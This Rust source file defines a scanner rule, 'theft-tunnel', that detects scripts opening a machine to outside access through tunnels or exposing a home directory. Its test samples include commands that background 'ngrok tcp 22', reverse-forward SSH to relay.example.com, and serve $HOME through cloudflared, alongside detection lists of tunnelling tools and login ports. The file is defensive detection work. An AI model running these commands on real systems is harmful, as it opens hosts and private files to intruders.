//! `theft-tunnel`: folders or doors of the machine are opened to everybody.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command::{self, Command};
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::scan::sending;
use crate::text::Span;

/// The rule.
pub static RULE: Rule = Rule {
    id: "theft-tunnel",
    title: "Opens a way into the machine from outside",
    severity: Severity::Error,
    confidence: Confidence::Medium,
    why: "Through a tunnel everybody who has its address reaches what no firewall lets through.",
    fix: "Serve the one folder that is to be seen, and only while the person looks.",
    references: &["CWE-200", "ATT&CK T1572", "ATT&CK T1090"],
    hits: &[
        Sample::File(
            "a.sh",
            "cd \"$HOME\" && python3 -m http.server 8099 &\ncloudflared tunnel --url http://localhost:8099\n",
        ),
        Sample::File("a.sh", "nohup ngrok tcp 22 >/dev/null 2>&1 &\n"),
        Sample::File(
            "scripts/a.py",
            "import subprocess\nsubprocess.Popen(['ssh', '-R', '2222:localhost:22', '-N', 'me@relay.example.com'])\n",
        ),
        Sample::File(
            "scripts/a.js",
            "require('child_process').spawn('ngrok', ['tcp', '22']);\n",
        ),
    ],
    misses: &[
        Sample::File("a.sh", "cloudflared tunnel --url http://localhost:3000\n"),
        Sample::File("a.sh", "cd dist && python3 -m http.server 8000\n"),
        Sample::File("a.sh", "ssh -L 5432:localhost:5432 db.example.com\n"),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    let mut tunnel: Option<Span> = None;
    let mut serves = false;
    for command in command::all(unit) {
        if opens_door(&command) {
            reporter
                .raise(command.span)
                .message("Opens the door for remote work on this machine to another one");
            return;
        }
        if is_tunnel(&command) {
            tunnel.get_or_insert(command.span);
        }
        serves |= serves_files(&command);
    }
    let Some(tunnel) = tunnel else { return };
    if serves && is_broad(unit) {
        let raised = reporter.raise(tunnel);
        raised.message("Shows the files of a whole home or disk to everybody");
        if command::is_program(unit) {
            raised.severity(Severity::Blocker);
        }
    } else if sending::all(unit)
        .iter()
        .any(|sending| sending.files().any(|path| path.ends_with(".log")) && !sending.to_vendor())
    {
        reporter
            .raise(tunnel)
            .message("Opens a way into the machine and tells another machine where it is");
    }
}

fn is_tunnel(command: &Command<'_>) -> bool {
    command.is(&["cloudflared"]) && command.has("tunnel")
        || command.is(&["ngrok"]) && (command.has("http") || command.has("start"))
        || command.is(&["lt", "localtunnel", "bore", "tailscale", "frpc", "chisel"])
            && command.words().count() > 1
            && (!command.is(&["tailscale"]) || command.has("funnel"))
        || command.is(&["ssh", "autossh"]) && forwards(command).is_some()
}

/// What of this machine a remote forwarding opens.
fn forwards<'a>(command: &'a Command<'_>) -> Option<&'a str> {
    let mut words = command.words();
    while let Some(word) = words.next() {
        if let Some(rest) = word.strip_prefix("-R") {
            return if rest.is_empty() {
                words.next()
            } else {
                Some(rest)
            };
        }
    }
    None
}

/// Whether the way leads to where people log in, or to screens.
fn opens_door(command: &Command<'_>) -> bool {
    const DOORS: &[&str] = &["22", "3389", "5900", "5985", "2375"];
    let ends = |word: &str| {
        let last = word.rsplit(':').next().unwrap_or(word);
        DOORS.contains(&last)
    };
    if command.is(&["ngrok"]) {
        return command.has("tcp") && command.words().any(ends);
    }
    command.is(&["ssh", "autossh"]) && forwards(command).is_some_and(ends)
        || command.is(&["bore"]) && command.has("local") && command.words().any(ends)
        || command.is(&["chisel"])
            && command.has("client")
            && command
                .words()
                .any(|word| word.starts_with("R:") && (ends(word) || word.ends_with("socks")))
}

fn serves_files(command: &Command<'_>) -> bool {
    command.line.contains("http.server")
        || command.line.contains("SimpleHTTPServer")
        || command.is(&["http-server", "serve", "filebrowser", "miniserve", "updog"])
        || command.is(&["npx", "bunx"])
            && ["http-server", "serve"]
                .iter()
                .any(|name| command.has(name))
        || command.is(&["php"]) && command.has("-S")
        || command.is(&["ruby"]) && command.line.contains("httpd")
}

/// Whether the code goes to a home or the root of a disk, or serves that.
fn is_broad(unit: &Unit) -> bool {
    const PLACES: &[&str] = &[
        "cd ~\n",
        "cd ~ ",
        "cd ~;",
        "cd ~/ ",
        "cd $HOME",
        "cd \"$HOME\"",
        "cd / ",
        "cd /;",
        "cd /\n",
        "--directory /",
        "--directory ~",
        "--directory $HOME",
        "--directory \"$HOME\"",
        "-d ~",
        "-d $HOME",
        "-d \"$HOME\"",
        "serve ~",
        "serve /",
        "http-server ~",
        "http-server /",
        "Path.home()",
        "homedir()",
        "expanduser('~')",
        "expanduser(\"~\")",
    ];
    PLACES.iter().any(|place| unit.text.contains(place))
}
